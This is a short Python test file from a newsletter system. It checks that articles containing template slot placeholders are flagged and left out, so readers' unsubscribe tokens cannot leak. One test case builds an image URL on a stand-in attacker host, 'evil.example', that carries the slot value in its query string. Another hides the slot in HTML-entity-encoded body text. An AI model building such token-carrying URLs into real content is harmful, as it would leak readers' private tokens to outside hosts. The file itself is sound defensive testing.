"""What a source writes never takes the place of a reader's own links."""

from __future__ import annotations

from dataclasses import replace

import pytest

from newsletter.planner import _forges_a_slot
from newsletter.slots import Slot
from newsroom.model import Article, Image
from tests.newsletter.builders import article


@pytest.mark.parametrize("slot", list(Slot))
def test_an_article_with_a_placeholder_of_ours_is_left_out(slot: Slot) -> None:
    """A picture's address would carry the reader's unsubscribe token to whoever serves the picture."""
    plain: Article = article("1")
    pictured = replace(plain.revision, images=(Image(url=f"https://evil.example/p.png?t={slot}", width=640, height=360),))
    written = replace(plain.revision, body=f"<p>{slot.replace('.', '&#46;')}</p>")
    assert not _forges_a_slot(plain)
    assert _forges_a_slot(replace(plain, revision=pictured))
    assert _forges_a_slot(replace(plain, revision=written))
